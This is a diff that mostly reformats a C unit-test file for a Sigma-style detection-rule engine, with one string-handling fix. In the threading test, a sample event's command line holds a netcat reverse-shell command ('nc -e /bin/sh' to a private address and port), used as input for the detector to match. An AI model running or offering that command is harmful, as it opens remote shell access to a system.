@@ -473,7 +473,7 @@ static void test_keywords(void **state)
 
 /* Three searches a, b, c each matching when field A / B / C is "1". */
 #define ABC(cond)                                                                                  \
-	RULE("    a:\n        A: '1'\n    b:\n        B: '1'\n    c:\n        C: '1'\n"           \
+	RULE("    a:\n        A: '1'\n    b:\n        B: '1'\n    c:\n        C: '1'\n"            \
 	     "    condition: " cond "\n")
 
 static int abc(const struct ruleset *rs, int a, int b, int c)
@@ -573,7 +573,8 @@ static void test_x_of(void **state)
 	assert_int_equal(m(rs, "C", "1", NULL), 0);
 	ruleset_free(rs);
 
-	snprintf(y, sizeof(y), HDR "%s    condition: all of selection_* and not 1 of filter*\n", det);
+	snprintf(y, sizeof(y), HDR "%s    condition: all of selection_* and not 1 of filter*\n",
+		 det);
 	rs = load_ok(y);
 	assert_int_equal(m(rs, "A", "1", "B", "1", NULL), 1);
 	assert_int_equal(m(rs, "A", "1", NULL), 0);
@@ -601,40 +602,40 @@ static void test_x_of(void **state)
 }
 
 static const char *multi_rules =
-	"title: any category\n"
-	"id: r-any\n"
-	"logsource:\n    product: linux\n"
-	"detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
-	"---\n"
-	"title: windows\n"
-	"id: r-win\n"
-	"logsource:\n    product: windows\n    category: process_creation\n"
-	"detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
-	"---\n"
-	"title: network\n"
-	"id: r-net\n"
-	"logsource:\n    category: network_connection\n"
-	"detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
-	"---\n"
-	"title: linux proc\n"
-	"id: r-proc\n"
-	"logsource:\n    product: Linux\n    category: process_creation\n"
-	"detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
-	"---\n"
-	"title: service\n"
-	"id: r-svc\n"
-	"logsource:\n    product: linux\n    service: auditd\n"
-	"detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
-	"---\n"
-	"title: registry\n"
-	"id: r-reg\n"
-	"logsource:\n    category: registry_set\n"
-	"detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
-	"---\n"
-	"title: no product\n"
-	"id: r-noprod\n"
-	"logsource:\n    category: process_creation\n"
-	"detection:\n    s:\n        Image: /bin/x\n    condition: s\n";
+    "title: any category\n"
+    "id: r-any\n"
+    "logsource:\n    product: linux\n"
+    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
+    "---\n"
+    "title: windows\n"
+    "id: r-win\n"
+    "logsource:\n    product: windows\n    category: process_creation\n"
+    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
+    "---\n"
+    "title: network\n"
+    "id: r-net\n"
+    "logsource:\n    category: network_connection\n"
+    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
+    "---\n"
+    "title: linux proc\n"
+    "id: r-proc\n"
+    "logsource:\n    product: Linux\n    category: process_creation\n"
+    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
+    "---\n"
+    "title: service\n"
+    "id: r-svc\n"
+    "logsource:\n    product: linux\n    service: auditd\n"
+    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
+    "---\n"
+    "title: registry\n"
+    "id: r-reg\n"
+    "logsource:\n    category: registry_set\n"
+    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
+    "---\n"
+    "title: no product\n"
+    "id: r-noprod\n"
+    "logsource:\n    category: process_creation\n"
+    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n";
 
 struct ids {
 	char buf[256];
@@ -645,10 +646,9 @@ struct ids {
 static int collect(const struct rule_info *ri, const struct event *ev, void *ctx)
 {
 	struct ids *ids = ctx;
+	size_t len = strlen(ids->buf);
 	(void)ev;
-	if (ids->buf[0])
-		strncat(ids->buf, ",", sizeof(ids->buf) - strlen(ids->buf) - 1);
-	strncat(ids->buf, ri->id, sizeof(ids->buf) - strlen(ids->buf) - 1);
+	snprintf(ids->buf + len, sizeof(ids->buf) - len, "%s%s", len ? "," : "", ri->id);
 	return ++ids->n == ids->stop_after;
 }
 
@@ -676,9 +676,8 @@ static void test_logsource_routing(void **state)
 	struct ids ids = {.stop_after = -1};
 	(void)state;
 
-	assert_int_equal(ruleset_load_mem(multi_rules, strlen(multi_rules), "m.yml", &rs, &st, NULL,
-					  NULL),
-			 0);
+	assert_int_equal(
+	    ruleset_load_mem(multi_rules, strlen(multi_rules), "m.yml", &rs, &st, NULL, NULL), 0);
 	assert_int_equal(st.loaded, 7);
 	assert_int_equal(st.errors + st.unsupported, 0);
 	/* load order kept across the product-less and the product groups */
@@ -743,8 +742,8 @@ static void test_diagnostics(void **state)
 		   YM_E_PARSE, 1, "no 'title'");
 	expect_bad("title: x\ndetection:\n    s: x\n    condition: s\n", YM_E_PARSE, 1,
 		   "no 'logsource'");
-	expect_bad(RULE("    sel:\n        Image|startwith: x\n    condition: sel\n"), YM_E_PARSE, 8,
-		   "unknown modifier 'startwith'");
+	expect_bad(RULE("    sel:\n        Image|startwith: x\n    condition: sel\n"), YM_E_PARSE,
+		   8, "unknown modifier 'startwith'");
 	expect_bad(RULE("    sel:\n        Image|contains|endswith: x\n    condition: sel\n"),
 		   YM_E_PARSE, 8, "cannot be combined");
 	expect_bad(RULE("    sel:\n        Image|i: x\n    condition: sel\n"), YM_E_PARSE, 8,
@@ -777,8 +776,8 @@ static void test_diagnostics(void **state)
 	expect_bad("- a\n- b\n", YM_E_PARSE, 1, "must be a YAML map");
 	expect_bad("", YM_E_PARSE, 0, "no YAML document");
 	/* attacker-controlled text in a reason is escaped */
-	expect_bad(RULE("    sel:\n        \"Image|x\\ny\": v\n    condition: sel\n"), YM_E_PARSE, 8,
-		   "unknown modifier 'x\\x0ay'");
+	expect_bad(RULE("    sel:\n        \"Image|x\\ny\": v\n    condition: sel\n"), YM_E_PARSE,
+		   8, "unknown modifier 'x\\x0ay'");
 }
 
 static void test_unsupported(void **state)
@@ -791,8 +790,8 @@ static void test_unsupported(void **state)
 		   YM_E_UNSUPPORTED, 8, "'windash'");
 	expect_bad(RULE("    sel:\n        DestinationIp|cidr: 10.0.0.0/8\n    condition: sel\n"),
 		   YM_E_UNSUPPORTED, 8, "'cidr'");
-	expect_bad(RULE("    sel:\n        ProcessId|gt: 5\n    condition: sel\n"), YM_E_UNSUPPORTED,
-		   8, "'gt'");
+	expect_bad(RULE("    sel:\n        ProcessId|gt: 5\n    condition: sel\n"),
+		   YM_E_UNSUPPORTED, 8, "'gt'");
 	expect_bad(RULE("    sel:\n        Image|fieldref: ParentImage\n    condition: sel\n"),
 		   YM_E_UNSUPPORTED, 8, "'fieldref'");
 	expect_bad(RULE("    sel:\n        Image: x\n    condition: sel | count() > 5\n"),
@@ -939,7 +938,8 @@ static void *thr_main(void *arg)
 	ev.category = EVCAT_PROCESS_CREATION;
 	ev.product = "linux";
 	for (int i = 0; i < 2000; i++) {
-		event_set_str(&ev, "CommandLine", (i & 1) ? "nc -e /bin/sh 10.0.0.1 4444" : "ls -la");
+		event_set_str(&ev, "CommandLine",
+			      (i & 1) ? "nc -e /bin/sh 10.0.0.1 4444" : "ls -la");
 		event_set_str(&ev, "Image", (i & 1) ? "/usr/bin/nc" : "/usr/bin/ls");
 		t->hits += ruleset_match(t->rs, &ev, NULL, NULL);
 	}
@@ -1020,28 +1020,28 @@ static int sigmahq(const char *dir)
 int main(int argc, char **argv)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_equality_case_insensitive),
-		cmocka_unit_test(test_contains_startswith_endswith),
-		cmocka_unit_test(test_all_modifier),
-		cmocka_unit_test(test_cased),
-		cmocka_unit_test(test_wildcards),
-		cmocka_unit_test(test_escapes),
-		cmocka_unit_test(test_regex),
-		cmocka_unit_test(test_regex_bounded),
-		cmocka_unit_test(test_exists),
-		cmocka_unit_test(test_null_and_empty),
-		cmocka_unit_test(test_lists_and_maps),
-		cmocka_unit_test(test_keywords),
-		cmocka_unit_test(test_condition_forms),
-		cmocka_unit_test(test_precedence),
-		cmocka_unit_test(test_x_of),
-		cmocka_unit_test(test_logsource_routing),
-		cmocka_unit_test(test_rule_info),
-		cmocka_unit_test(test_diagnostics),
-		cmocka_unit_test(test_unsupported),
-		cmocka_unit_test(test_limits),
-		cmocka_unit_test(test_load_folder),
-		cmocka_unit_test(test_threads),
+	    cmocka_unit_test(test_equality_case_insensitive),
+	    cmocka_unit_test(test_contains_startswith_endswith),
+	    cmocka_unit_test(test_all_modifier),
+	    cmocka_unit_test(test_cased),
+	    cmocka_unit_test(test_wildcards),
+	    cmocka_unit_test(test_escapes),
+	    cmocka_unit_test(test_regex),
+	    cmocka_unit_test(test_regex_bounded),
+	    cmocka_unit_test(test_exists),
+	    cmocka_unit_test(test_null_and_empty),
+	    cmocka_unit_test(test_lists_and_maps),
+	    cmocka_unit_test(test_keywords),
+	    cmocka_unit_test(test_condition_forms),
+	    cmocka_unit_test(test_precedence),
+	    cmocka_unit_test(test_x_of),
+	    cmocka_unit_test(test_logsource_routing),
+	    cmocka_unit_test(test_rule_info),
+	    cmocka_unit_test(test_diagnostics),
+	    cmocka_unit_test(test_unsupported),
+	    cmocka_unit_test(test_limits),
+	    cmocka_unit_test(test_load_folder),
+	    cmocka_unit_test(test_threads),
 	};
 	if (argc == 3 && strcmp(argv[1], "--sigmahq") == 0)
 		return sigmahq(argv[2]);
